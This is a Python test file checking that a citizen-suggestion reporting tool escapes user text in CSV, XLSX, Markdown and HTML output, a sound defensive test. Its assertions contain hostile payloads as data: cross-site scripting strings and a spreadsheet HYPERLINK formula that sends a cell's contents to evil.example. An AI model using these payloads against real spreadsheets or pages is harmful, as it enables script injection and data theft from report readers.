"""Issue 20 §6: text a citizen wrote is never live in a report.

CSV and XLSX: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a ``'`` in front (OWASP), and openpyxl never stores a text as a formula or an
error value; numbers stay numbers.  Markdown (the report and the two summary documents):
``&``, ``<`` and ``>`` are character references and link brackets are escaped.  HTML:
every text is escaped (it already was on main; the test keeps it so).  On main the CSV,
XLSX and Markdown tests fail: the payloads come out as written.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from hostile_report_fixtures import NOW, PAYLOADS, build
from jianyi_flow.render import analysis_report, csv_files, excerpt_report, render_html, render_markdown, write_xlsx
from jianyi_flow.render.markdown import escape
from jianyi_flow.report import CampaignReport, build_report


@pytest.fixture(scope="module")
def report() -> CampaignReport:
    hostile = build()
    return build_report(hostile.campaign, hostile.store, NOW)


def test_csv_text_cells_that_would_be_formulas_start_with_a_quote(report: CampaignReport) -> None:
    files = csv_files(report)
    rows = [row for data in files.values() for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
    titles = {row[2] for row in rows if len(row) == 13}  # the brief tables: 编号, 登记号, 标题...
    assert "'" + PAYLOADS["formula ="] in titles
    assert "'" + PAYLOADS["formula after a tab"] in titles
    assert "'" + PAYLOADS["formula after a carriage return"] in titles
    assert [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    (outcomes,) = [data for name, data in files.items() if name.endswith("_by_outcome.csv")]
    rows = list(csv.reader(io.StringIO(outcomes.decode("utf-8-sig"))))
    assert ["partially_adopted", "部分采纳", "22"] in rows  # numbers stay bare


def test_xlsx_stores_citizen_text_as_text_never_as_a_formula(report: CampaignReport, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write_xlsx(report, tmp_path / "r.xlsx"))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + PAYLOADS["formula ="] in texts and "'" + PAYLOADS["formula @"] in texts
    assert [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []
    sheet = book["按办理结果"]
    assert [c.value for c in sheet[3]] == ["partially_adopted", "部分采纳", 22]  # numbers stay numbers


def test_xlsx_keeps_an_error_literal_a_citizen_wrote_as_text() -> None:
    from jianyi_flow.render.xlsx import text_cell

    assert text_cell("#N/A") == "'#N/A" and text_cell("#N/A 问题") == "#N/A 问题"
    assert text_cell("=1+1") == "'=1+1" and text_cell("普通标题") == "普通标题"


def test_markdown_shows_html_and_links_as_text(report: CampaignReport) -> None:
    md = render_markdown(report)
    assert "<img" not in md and "<script" not in md
    assert "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "\\[点我\\](javascript:alert(1))" in md
    assert escape("a|b\nc & <b>[x](y)") == "a\\|b<br>c &amp; &lt;b&gt;\\[x\\](y)"


@pytest.mark.parametrize("document", [excerpt_report, analysis_report])
def test_summary_documents_show_html_as_text(report: CampaignReport,
                                             document: Callable[[CampaignReport], str]) -> None:
    text = document(report)
    assert "<img" not in text and "<script" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_html_escapes_everything_citizen_written(report: CampaignReport) -> None:
    page = render_html(report, font=False)
    assert "<img src=x" not in page and "<script" not in page and "onerror=alert" not in page.replace(
        "onerror=alert(1)&gt;", "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;详情&quot;)" in page
